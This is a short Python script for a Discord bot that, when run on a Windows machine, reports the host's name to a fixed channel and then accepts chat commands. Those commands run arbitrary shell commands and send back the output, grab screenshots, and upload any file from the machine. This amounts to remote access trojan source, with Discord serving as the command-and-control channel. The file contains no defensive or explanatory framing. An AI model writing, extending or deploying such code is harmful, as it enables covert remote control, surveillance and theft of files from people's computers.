import asyncio
import os
import subprocess
import platform
import discord
from discord.ext import commands

TOKEN = "MTIzNDU2Nzg5MDEyMzQ1Njc4.GAAAAA.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
intents = discord.Intents.all()
bot = commands.Bot(command_prefix="!", intents=intents, help_command=None)

class Control(commands.Cog):
    def __init__(self, bot):
        self.bot = bot

    @commands.command(name="cmd")
    async def cmd(self, ctx, *, command):
        p = await asyncio.create_subprocess_shell(command, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
        out, _ = await p.communicate()
        for i in range(0, len(out), 1900):
            await ctx.send("```" + out[i:i + 1900].decode(errors="ignore") + "```")

    @commands.command()
    async def ss(self, ctx):
        from PIL import ImageGrab
        ImageGrab.grab().save("s.png")
        await ctx.send(file=discord.File("s.png"))

    @commands.command()
    async def download(self, ctx, path):
        await ctx.send(file=discord.File(path))

@bot.event
async def on_ready():
    ch = bot.get_channel(123456789012345678)
    await ch.send(f"{platform.node()} online")
    await bot.add_cog(Control(bot))

def start():
    bot.run(TOKEN)

if os.name == "nt":
    start()
